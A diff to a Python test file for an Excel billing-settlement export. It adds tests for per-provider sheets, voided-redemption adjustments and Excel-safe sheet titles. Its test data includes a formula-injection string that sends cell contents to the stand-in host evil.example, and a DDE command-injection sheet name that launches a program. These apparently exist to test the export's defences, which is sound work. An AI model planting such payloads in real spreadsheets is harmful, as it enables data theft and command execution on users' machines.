@@ -20,6 +20,7 @@ from config.xlsx import text_cell
 from tests.billing.conftest import MONTH, City
 from tests.billing.test_settlement import make_finance
 from vouchers.models import Redemption
+from vouchers.services import void_redemption
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 
@@ -68,7 +69,7 @@ def test_the_workbook_has_a_summary_and_a_detail_sheet_with_chinese_headers(sett
 
     # then it opens with 汇总 and 明细, Chinese headers and the header row frozen
     workbook = open_workbook(out)
-    assert workbook.sheetnames == ["审批汇总", "汇总", "明细"]
+    assert workbook.sheetnames == ["审批汇总", "汇总", "+cmd|' _C calc'!A0", "康乐家政A", "康乐家政C", "明细"]
     summary_sheet, detail_sheet = workbook["汇总"], workbook["明细"]
     assert rows_of(summary_sheet)[0] == [
         "服务商编码",
@@ -348,3 +349,39 @@ def test_the_approval_summary_has_a_title_a_row_per_provider_sum_formulas_and_si
     assert any(text.startswith("编制人：test") for text in texts)
     assert any(text.startswith("复核人：finance-tester") for text in texts)
     assert any(text.startswith("审批人：sun") for text in texts)
+
+
+def test_each_provider_has_its_own_sheet_with_lines_and_adjustments(settled_city, tmp_path):
+    # given a service of October voided in November (an adjustment of provider A's November)
+    november = dt.date(2026, 11, 1)
+    served = Redemption.objects.filter(provider__code="prov-a", void__isnull=True).first()
+    void_redemption(
+        redemption_id=served.pk,
+        reason="服务未发生",
+        user=settled_city.staff["prov-a"].user,
+        now=dt.datetime(2026, 11, 3, tzinfo=SHANGHAI),
+    )
+    settle(month=november, job="test", now=dt.datetime(2026, 12, 1, 9, tzinfo=SHANGHAI))
+
+    # when November is exported
+    out = tmp_path / "2026-11.xlsx"
+    export_settlement(month=november, out=out, provider_code="prov-a")
+
+    # then provider A's sheet has its adjustment line, the total, and the adjustment itself
+    rows = rows_of(open_workbook(out)["康乐家政A"])
+    assert rows[0][:3] == ["类型", "服务类别", "服务项目"]
+    assert [row[0] for row in rows[1:3]] == ["调整", "合计"]
+    assert Decimal(str(rows[2][6])) == -served.amount.amount
+    assert rows[4][:4] == ["调整日期", "核销编号", "调整类型", "原因"]
+    assert (rows[5][1], rows[5][3], Decimal(str(rows[5][4]))) == (
+        served.pk,
+        "服务未发生",
+        -served.amount.amount,
+    )
+
+
+def test_sheet_titles_are_what_excel_accepts():
+    taken = set()
+    assert exports._sheet_title("康乐[家政]:A/B", taken) == "康乐_家政__A_B"
+    assert exports._sheet_title("康乐[家政]:A/B", taken) == "康乐_家政__A_B(2)"
+    assert len(exports._sheet_title("长" * 40, taken)) == 31
